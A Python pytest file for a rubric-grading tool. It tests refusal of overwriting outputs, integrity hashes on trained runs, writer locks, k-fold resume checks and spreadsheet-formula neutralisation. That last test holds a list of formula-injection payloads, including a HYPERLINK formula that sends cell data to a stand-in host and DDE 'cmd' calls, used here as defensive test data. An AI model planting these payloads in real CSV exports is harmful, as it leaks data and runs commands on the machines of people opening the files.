"""Nothing lost: an ``--out`` that would replace an input, or a file or folder the command did not write, is refused
before any work (rubrictool.outputs); runs prove they are whole (run.json hashes every file, the weights included,
and every reader checks it; NaN probabilities are an error, never a grade); one writer per run folder; a k-fold
folder is resumed only by the configuration, table and split that wrote it; cells a spreadsheet would run as formulas
are neutralised in the CSVs written for people and read back verbatim.

Each case here failed at 60fd678 (docs/results.md, "Faults and hostile input", lists them with their outcome).
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pandas as pd
import pytest
import yaml
from typer.testing import CliRunner

from rubrictool.cli import app
from rubrictool.io import read_table
from rubrictool.train import runs
from rubrictool.train.runs import run_is_complete, sha256_file
from tests.support.courses import write_chemlab_tables
from tests.support.faults import ROOT, cli_env
from tests.support.tiny_models import build_backbone

pytestmark = pytest.mark.usefixtures("one_thread")
runner = CliRunner()
N = 40


def _one_line(output: str) -> str:
    flat = " ".join(output.split())
    assert "Traceback" not in output and flat.startswith("error:"), output[-2000:]
    return flat


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The chemistry-lab course (SAFE, METH, UNIT on 0..2, a 0..10 grade), 40 answers, and a tiny BERT."""
    d = tmp_path_factory.mktemp("course")
    return write_chemlab_tables(d, N) | {"backbone": Path(build_backbone(d, "bert"))}


def _train_args(course: dict[str, Path], out: Path | str, *extra: str, data: Path | None = None) -> list[str]:
    return ["train", "--table", str(data or course["table"]), "--rubric", str(course["rubric"]), "--backbone",
            str(course["backbone"]), "--epochs", "1", "--max-len", "32", "--out", str(out), "--device", "cpu",
            "--lr", "3e-3", "--cfg", "joint.epochs=1", *extra]


@pytest.fixture(scope="module")
def trained(course: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("trained") / "run"
    res = runner.invoke(app, _train_args(course, out))
    assert res.exit_code == 0, res.output
    return out


# -- 1. one output rule ---------------------------------------------------------------------------------------------


def test_annotate_out_on_its_own_data_is_refused_before_anything_is_sent(course: dict[str, Path],
                                                                        tmp_path: Path) -> None:
    data = tmp_path / "c.csv"
    shutil.copy(course["items"], data)
    before = data.read_bytes()
    for out in (data, tmp_path / "." / "c.csv"):
        res = runner.invoke(app, ["annotate", "--rubric", str(course["rubric"]), "--items", str(data), "--model",
                                  "openai/m", "--api-base", "http://127.0.0.1:9/v1", "--cache", str(tmp_path / "k.db"),
                                  "--out", str(out)])
        flat = _one_line(res.output)
        assert res.exit_code == 1 and f"would overwrite the input {data}" in flat, flat
    assert data.read_bytes() == before and not (tmp_path / "k.db").exists()


def test_annotate_out_over_a_file_that_is_not_a_prediction_table_is_refused(course: dict[str, Path],
                                                                           tmp_path: Path) -> None:
    notes = tmp_path / "notes.csv"
    notes.write_text("who,what\nana,keep this\n")
    res = runner.invoke(app, ["annotate", "--rubric", str(course["rubric"]), "--items", str(course["items"]), "--model",
                              "openai/m", "--api-base", "http://127.0.0.1:9/v1", "--no-cache", "--out", str(notes)])
    assert res.exit_code == 1 and "exists and is not a prediction table" in _one_line(res.output)
    assert notes.read_text() == "who,what\nana,keep this\n"


def test_adjudicate_out_holding_its_inputs_is_refused(course: dict[str, Path], tmp_path: Path) -> None:
    x = tmp_path / "X"
    x.mkdir()
    shutil.copy(course["items"], x / "adjudicated.csv")
    rows = [{"item": i, "reviewer": who, "concept": k, "level": 1} for i in pd.read_csv(course["items"])["id"]
            for who in ("ana", "ben") for k in ("SAFE", "METH", "UNIT")]
    pd.DataFrame(rows).to_csv(x / "decisions.csv", index=False)
    before = _snapshot(x)
    res = runner.invoke(app, ["adjudicate", "--rubric", str(course["rubric"]), "--items", str(x / "adjudicated.csv"),
                              "--reviews", str(x / "decisions.csv"), "--out", str(x), "--bootstrap", "0"])
    flat = _one_line(res.output)
    assert res.exit_code == 1 and "would overwrite the input" in flat, flat
    assert _snapshot(x) == before


def test_train_out_over_a_folder_that_is_not_a_run_is_refused(course: dict[str, Path], tmp_path: Path) -> None:
    d = tmp_path / "d"
    d.mkdir()
    shutil.copy(course["table"], d / "table.csv")
    (d / "thesis.tex").write_text("chapter one\n")
    before = _snapshot(d)
    res = runner.invoke(app, _train_args(course, d, data=d / "table.csv"))
    flat = _one_line(res.output)
    assert res.exit_code == 1 and "would overwrite the input" in flat and str(d) in flat, flat
    shutil.copy(course["table"], tmp_path / "elsewhere.csv")
    res = runner.invoke(app, _train_args(course, d, data=tmp_path / "elsewhere.csv"))
    flat = _one_line(res.output)
    assert res.exit_code == 1 and "existing folder that is not a run" in flat and "thesis.tex" in flat, flat
    assert _snapshot(d) == before


def test_train_out_on_its_table_or_the_current_folder_is_refused(course: dict[str, Path], tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    t = tmp_path / "t.csv"
    shutil.copy(course["table"], t)
    (tmp_path / "link.csv").symlink_to(t)
    before = t.read_bytes()
    for out in (t, tmp_path / "link.csv"):
        res = runner.invoke(app, _train_args(course, out, data=t))
        assert res.exit_code == 1 and "would overwrite the input" in _one_line(res.output)
    assert t.read_bytes() == before and not list(tmp_path.glob(".t.csv.*"))
    monkeypatch.chdir(tmp_path)
    for out in (".", "./", str(tmp_path)):
        res = runner.invoke(app, _train_args(course, out))
        flat = _one_line(res.output)
        assert res.exit_code == 1 and "is the current folder" in flat, flat
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.csv", "t.csv"]


def test_train_folds_into_a_run_of_one_split_is_refused(course: dict[str, Path], trained: Path,
                                                       tmp_path: Path) -> None:
    run = tmp_path / "run"
    shutil.copytree(trained, run)
    before = _snapshot(run)
    res = runner.invoke(app, _train_args(course, run, "--folds", "2"))
    assert res.exit_code == 1 and "is a run of one split" in _one_line(res.output)
    assert _snapshot(run) == before


def test_grade_out_on_a_file_of_the_run_or_a_foreign_file_is_refused(course: dict[str, Path], trained: Path,
                                                                     tmp_path: Path) -> None:
    run = tmp_path / "run"
    shutil.copytree(trained, run)
    before = _snapshot(run)
    res = runner.invoke(app, ["grade", "--run", str(run), "--items", str(course["items"]), "--out",
                              str(run / "table.csv")])
    assert res.exit_code == 1 and f"would overwrite table.csv of the run {run}" in _one_line(res.output)
    assert _snapshot(run) == before
    mine = tmp_path / "marks.csv"
    mine.write_text("id,mark\nq.1,7\n")
    res = runner.invoke(app, ["grade", "--run", str(run), "--items", str(course["items"]), "--out", str(mine)])
    assert res.exit_code == 1 and "exists and is not a graded table" in _one_line(res.output)
    assert mine.read_text() == "id,mark\nq.1,7\n"
    graded = tmp_path / "graded.csv"  # its own earlier output is replaced
    for _ in range(2):
        res = runner.invoke(app, ["grade", "--run", str(run), "--items", str(course["items"]), "--out", str(graded)])
        assert res.exit_code == 0, res.output


def test_data_import_out_on_its_own_file_through_a_symlink_is_refused(tmp_path: Path) -> None:
    src = tmp_path / "answers.csv"
    src.write_text("id,question,response,grade\n1,What is 2+2?,four,1\n2,What is 2+2?,five,0\n")
    (tmp_path / "same.csv").symlink_to(src)
    before = src.read_bytes()
    res = runner.invoke(app, ["data", "import", str(src), "--out", str(tmp_path / "same.csv")])
    assert res.exit_code == 1 and "would overwrite the input" in _one_line(res.output)
    assert src.read_bytes() == before


@pytest.mark.parametrize("cmd", ["data split", "rubric export", "rubric points", "rubric fit-points", "learning-curve"])
def test_every_other_command_refuses_an_out_on_its_input(course: dict[str, Path], tmp_path: Path, cmd: str) -> None:
    rubric, table = tmp_path / "course.yaml", tmp_path / "adjudicated.csv"
    shutil.copy(course["rubric"], rubric)
    shutil.copy(course["table"], table)
    args = {"data split": ["data", "split", str(table), "--out", str(table)],
            "rubric export": ["rubric", "export", "--rubric", str(rubric), "--out", str(rubric)],
            "rubric points": ["rubric", "points", "--rubric", str(rubric), "--labels", str(table), "--out", str(table)],
            "rubric fit-points": ["rubric", "fit-points", "--rubric", str(rubric), "--table", str(table), "--out",
                                  str(rubric)],
            "learning-curve": ["learning-curve", "--table", str(table), "--rubric", str(rubric), "--variants", "points",
                               "--out", str(table)]}[cmd]
    before = _snapshot(tmp_path)
    res = runner.invoke(app, args)
    flat = _one_line(res.output)
    assert res.exit_code == 1 and ("would overwrite the input" in flat or "is an existing file" in flat), flat
    assert _snapshot(tmp_path) == before


# -- 2. runs that prove they are whole -----------------------------------------------------------------------------


def _rerecord(run: Path, name: str) -> None:
    """Make run.json agree with ``name`` as it is now (what a damaged run whose record was rewritten looks like)."""
    record = json.loads((run / "run.json").read_text())
    p = run / name
    record["files"][name] = {"bytes": p.stat().st_size, "sha256": sha256_file(p),
                             **({"sample_sha256": runs.sample_sha256(p)} if "sample_sha256" in record["files"][name]
                                else {})}
    (run / "run.json").write_text(json.dumps(record))


READERS = ["grade", "report", "explain", "intervene", "audit"]


def _reader_args(cmd: str, run: Path, course: dict[str, Path], tmp: Path) -> list[str]:
    if cmd == "grade":
        return ["grade", "--run", str(run), "--items", str(course["items"]), "--out", str(tmp / "g.csv")]
    if cmd == "explain":
        return ["explain", "--run", str(run), "q.1", "--out", str(tmp / "explain")]
    return [cmd, "--run", str(run), "--out", str(tmp / cmd)]


@pytest.mark.parametrize("cmd", READERS)
def test_every_reader_refuses_a_run_without_its_record(course: dict[str, Path], trained: Path, tmp_path: Path,
                                                       cmd: str) -> None:
    run = tmp_path / "copied-out"
    shutil.copytree(trained, run)
    (run / "run.json").unlink()
    res = runner.invoke(app, _reader_args(cmd, run, course, tmp_path))
    flat = _one_line(res.output)
    assert res.exit_code == 1 and "has no completion record (run.json)" in flat, flat
    assert not (tmp_path / "g.csv").exists()


def test_other_weights_of_the_same_size_are_refused_by_the_fast_check(course: dict[str, Path], tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """Files over the whole-hash threshold (16 MB; lowered here so a tiny model is over it) are checked by size and a
    sampled hash: another training's weights of the same size differ in it."""
    monkeypatch.setattr(runs, "_HASH_ON_OPEN_MAX_BYTES", 1024)
    a, b = tmp_path / "a", tmp_path / "b"
    assert runner.invoke(app, _train_args(course, a)).exit_code == 0
    assert runner.invoke(app, _train_args(course, b, "--cfg", "joint.epochs=2")).exit_code == 0
    record = json.loads((a / "run.json").read_text())
    assert "sample_sha256" in record["files"]["model.safetensors"]
    assert (a / "model.safetensors").stat().st_size == (b / "model.safetensors").stat().st_size
    assert (a / "model.safetensors").read_bytes() != (b / "model.safetensors").read_bytes()
    shutil.copy(b / "model.safetensors", a / "model.safetensors")
    res = runner.invoke(app, ["grade", "--run", str(a), "--items", str(course["items"]), "--out",
                              str(tmp_path / "g.csv")])
    flat = _one_line(res.output)
    assert res.exit_code == 1 and "model.safetensors changed after the run was written" in flat, flat


def test_the_weights_are_hashed_whole_with_or_without_verify(course: dict[str, Path], tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """4 KB of garbage between the sampled blocks (which the sampled hash once let through) is refused by every open,
    with or without --verify."""
    monkeypatch.setattr(runs, "_HASH_ON_OPEN_MAX_BYTES", 1024)
    monkeypatch.setattr(runs, "_SAMPLE_BLOCKS", 2)  # the first and the last 4 KiB only
    monkeypatch.setattr(runs, "_SAMPLE_BLOCK_BYTES", 4096)
    run = tmp_path / "run"
    assert runner.invoke(app, _train_args(course, run)).exit_code == 0
    weights = run / "model.safetensors"
    size = weights.stat().st_size
    assert size > 3 * runs._SAMPLE_BLOCK_BYTES
    with open(weights, "r+b") as f:
        f.seek(size // 2)
        f.write(os.urandom(4096))
    assert runs.sample_sha256(weights) == json.loads((run / "run.json").read_text())["files"]["model.safetensors"].get(
        "sample_sha256", runs.sample_sha256(weights))  # the sampled blocks are untouched
    assert not run_is_complete(run)
    with runs.full_check():
        assert not run_is_complete(run)
    for verify in ([], ["--verify"]):
        args = ["grade", "--run", str(run), "--items", str(course["items"]), "--out", str(tmp_path / "g.csv"), *verify]
        res = runner.invoke(app, args)
        flat = _one_line(res.output)
        assert res.exit_code == 1 and "model.safetensors changed after the run was written (its sha256 differs)" in flat
        assert not (tmp_path / "g.csv").exists()


def test_nan_probabilities_are_an_error_never_a_grade(course: dict[str, Path], trained: Path, tmp_path: Path) -> None:
    from safetensors.torch import load_file, save_file

    run = tmp_path / "run"
    shutil.copytree(trained, run)
    weights = load_file(run / "model.safetensors")
    name = next(k for k, v in weights.items() if v.is_floating_point() and v.ndim == 2 and "encoder" in k)
    weights[name][:] = float("nan")
    save_file(weights, run / "model.safetensors", metadata={"format": "pt"})
    _rerecord(run, "model.safetensors")
    out = tmp_path / "g.csv"
    res = runner.invoke(app, ["grade", "--run", str(run), "--items", str(course["items"]), "--out", str(out)])
    flat = _one_line(res.output)
    assert res.exit_code == 1 and "not numbers (NaN)" in flat and "no grade is given" in flat, flat
    assert not out.exists()
    res = runner.invoke(app, ["explain", "--run", str(run), "q.1", "--out", str(tmp_path / "ex")])
    assert res.exit_code == 1 and "not numbers (NaN)" in _one_line(res.output)


def test_a_run_left_aside_between_the_two_renames_is_named_and_kept(course: dict[str, Path], trained: Path,
                                                                    tmp_path: Path) -> None:
    runs_dir = tmp_path / "runs"
    runs_dir.mkdir()
    aside = runs_dir / f".run.old-{2**22 + 1}-0123abcd"
    shutil.copytree(trained, aside)
    res = runner.invoke(app, ["grade", "--run", str(runs_dir / "run"), "--items", str(course["items"]), "--out",
                              str(tmp_path / "g.csv")])
    flat = _one_line(res.output)
    assert res.exit_code == 1 and f"{aside} holds the run it was replacing" in flat and "mv" in flat, flat
    res = runner.invoke(app, _train_args(course, runs_dir / "run", "--cfg", "stage1.batch_size=0"))
    assert res.exit_code != 0 and aside.is_dir()  # a build that fails keeps it
    res = runner.invoke(app, _train_args(course, runs_dir / "run"))
    assert res.exit_code == 0, res.output
    assert [p.name for p in runs_dir.iterdir()] == ["run"]  # removed once a run is written whole


# -- 3. one writer per run folder; k-fold resume only of the same training --------------------------------------------


def test_a_second_train_on_the_same_out_stops_at_once(course: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "run"
    holder = subprocess.Popen(  # a process holding the run's lock, as a first `train --out run` does while it trains
        [sys.executable, "-c", textwrap.dedent(f"""
            import sys, time
            from rubrictool.locks import writer_lock
            with writer_lock({str(out)!r}, "the run", "wait", by="rubrictool train"):
                print("held", flush=True)
                time.sleep(60)
        """)], env=cli_env(), cwd=str(ROOT), stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        t0 = time.monotonic()
        res = runner.invoke(app, _train_args(course, out))
        flat = _one_line(res.output)
        assert res.exit_code == 1 and "in use by another rubrictool train" in flat and f"pid {holder.pid}" in flat, flat
        assert time.monotonic() - t0 < 10 and not out.exists()
    finally:
        holder.kill()
        holder.wait()
    res = runner.invoke(app, _train_args(course, out))  # the lock dies with its holder
    assert res.exit_code == 0, res.output
    assert not (tmp_path / "run.lock").exists()


@pytest.fixture(scope="module")
def kfold(course: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("kfold") / "kfold"
    res = runner.invoke(app, _train_args(course, out, "--folds", "2"))
    assert res.exit_code == 0, res.output
    return out


def test_train_folds_over_folds_of_another_variant_is_refused(course: dict[str, Path], kfold: Path,
                                                             tmp_path: Path) -> None:
    out = tmp_path / "kfold"
    shutil.copytree(kfold, out)
    before = _snapshot(out)
    res = runner.invoke(app, _train_args(course, out, "--folds", "2", "--variant", "vanilla"))
    flat = _one_line(res.output)
    assert res.exit_code == 1 and f"{out / 'fold-0'} was trained otherwise" in flat and "configuration differs" in flat
    assert _snapshot(out) == before
    shutil.rmtree(out / "fold-1")  # one fold to train, one to read back: never pooled across variants
    res = runner.invoke(app, _train_args(course, out, "--folds", "2", "--variant", "vanilla"))
    assert res.exit_code == 1 and "configuration differs" in _one_line(res.output)
    res = runner.invoke(app, _train_args(course, out, "--folds", "2"))  # the same training: fold-0 read back
    assert res.exit_code == 0, res.output
    assert (out / "fold-0" / "run.json").read_bytes() == before["fold-0/run.json"]
    assert json.loads((out / "folds.json").read_text())["variant"] == "reccbm"


def test_train_folds_over_folds_of_another_table_is_refused_before_writing(course: dict[str, Path], kfold: Path,
                                                                          tmp_path: Path) -> None:
    out = tmp_path / "kfold"
    shutil.copytree(kfold, out)
    before = _snapshot(out)
    other = tmp_path / "other.csv"
    df = pd.read_csv(course["table"])
    df.assign(id=[f"x.{i}" for i in range(len(df))]).to_csv(other, index=False)  # other answers
    res = runner.invoke(app, _train_args(course, out, "--folds", "2", data=other))
    flat = _one_line(res.output)
    assert res.exit_code == 1 and "was trained otherwise" in flat and "KeyError" not in flat, flat
    assert _snapshot(out) == before  # the folds' split files too
    df.assign(SAFE=2 - df["SAFE"]).to_csv(other, index=False)  # the same answers, other labels
    res = runner.invoke(app, _train_args(course, out, "--folds", "2", data=other))
    assert res.exit_code == 1 and "trained on another table" in _one_line(res.output)
    assert _snapshot(out) == before


def test_a_fold_trained_before_a_field_was_added_is_read_back_at_that_fields_default(
        kfold: Path, tmp_path: Path) -> None:
    """A finished fold whose config.yaml lacks a recipe field added to the code since (here stage1.rdrop_share) is
    trained as this call would train it when the call leaves that field at its default; set otherwise, or a missing
    field outside the recipe's sections, it differs and says which."""
    from rubrictool.train.resume import fold_difference

    fold = tmp_path / "fold-0"
    shutil.copytree(kfold / "fold-0", fold)
    config = yaml.safe_load((fold / "config.yaml").read_text())
    split = json.loads((fold / "split.json").read_text())
    sha = json.loads((fold / runs.RECORD).read_text())["files"]["table.csv"]["sha256"]
    assert fold_difference(fold, split, config, sha) is None
    older = copy.deepcopy(config)
    del older["stage1"]["rdrop_share"], older["seeds"]
    (fold / "config.yaml").write_text(yaml.safe_dump(older, sort_keys=False))
    assert "seeds None there" in (fold_difference(fold, split, config, sha) or "")
    older["seeds"] = config["seeds"]
    (fold / "config.yaml").write_text(yaml.safe_dump(older, sort_keys=False))
    assert fold_difference(fold, split, config, sha) is None
    later = copy.deepcopy(config)
    later["stage1"]["rdrop_share"] = 0.5
    assert fold_difference(fold, split, later,
                           sha) == "its configuration differs: stage1.rdrop_share None there, 0.5 now"


# -- 5. spreadsheet formulas ----------------------------------------------------------------------------------------

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "plain answer"]


def test_formula_cells_are_neutralised_for_spreadsheets_and_read_back_verbatim(course: dict[str, Path],
                                                                              trained: Path, tmp_path: Path) -> None:
    src = tmp_path / "answers.jsonl"  # a tab and a carriage return at the start of a cell survive JSON Lines whole
    pd.DataFrame({"Student": [f"=A{i}" if i == 0 else f"s{i}" for i in range(len(HOSTILE))],
                  "Question": ["What is safe?"] * len(HOSTILE), "Answer": HOSTILE,
                  "Mark": list(range(len(HOSTILE)))}).to_json(src, orient="records", lines=True)
    items = tmp_path / "items.csv"
    res = runner.invoke(app, ["data", "import", str(src), "--out", str(items), "--columns",
                              "id=Student,question=Question,response=Answer,grade=Mark"])
    assert res.exit_code == 0, res.output
    raw = pd.read_csv(items, dtype=str, keep_default_na=False)  # what a spreadsheet reads
    for cell in [*raw["response"], *raw["id"]]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    back = read_table(items)  # what the project reads: verbatim
    assert list(back["response"]) == HOSTILE and back["id"].iloc[0] == "=A0"
    graded = tmp_path / "graded.csv"
    res = runner.invoke(app, ["grade", "--run", str(trained), "--items", str(items), "--out", str(graded)])
    assert res.exit_code == 0, res.output
    assert pd.read_csv(graded, dtype=str)["id"].iloc[0] == "'=A0"
    assert read_table(graded)["id"].iloc[0] == "=A0"
